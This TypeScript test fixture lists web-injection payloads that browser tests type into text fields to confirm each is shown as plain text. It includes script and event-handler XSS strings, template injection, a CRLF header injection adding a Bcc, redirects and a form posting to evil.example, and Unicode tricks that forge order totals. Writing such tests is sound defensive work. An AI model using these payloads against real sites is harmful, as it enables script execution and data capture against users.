// The corpus of cross-site scripting (XSS) and forged lines that the browser tests type into every text.

/** Each would run `alert`, leave the document or forge a line if any screen took it for more than text. */
export const CARGAS = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert`1`>',
  '"><iframe srcdoc="<script>parent.alert(1)</script>">',
  "'-alert(1)-'",
  '" autofocus onfocus=alert(1) x="',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">a</a>',
  '<details open ontoggle=alert(1)>',
  '<style>*{display:none}</style>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=p>',
  '<!--',
  ']]><x-uno>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the text itself
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  'a\n*Total final: $1*\nPedido #1',
  'a\r\nBcc: todos@evil.example\r\n\r\n<b>x</b>',
  'a\u2028*Total: $1*\u2029b\u0085c',
  '\u202eoremun\u202c \u2066x\u2069 \u200b\u00ad\ufeff1',
  '%0A*Total: $1*&phone=1#&text=x *b* _i_ ~t~ ```m```',
  '<math><mtext></p><img src onerror=alert(1)>',
] as const
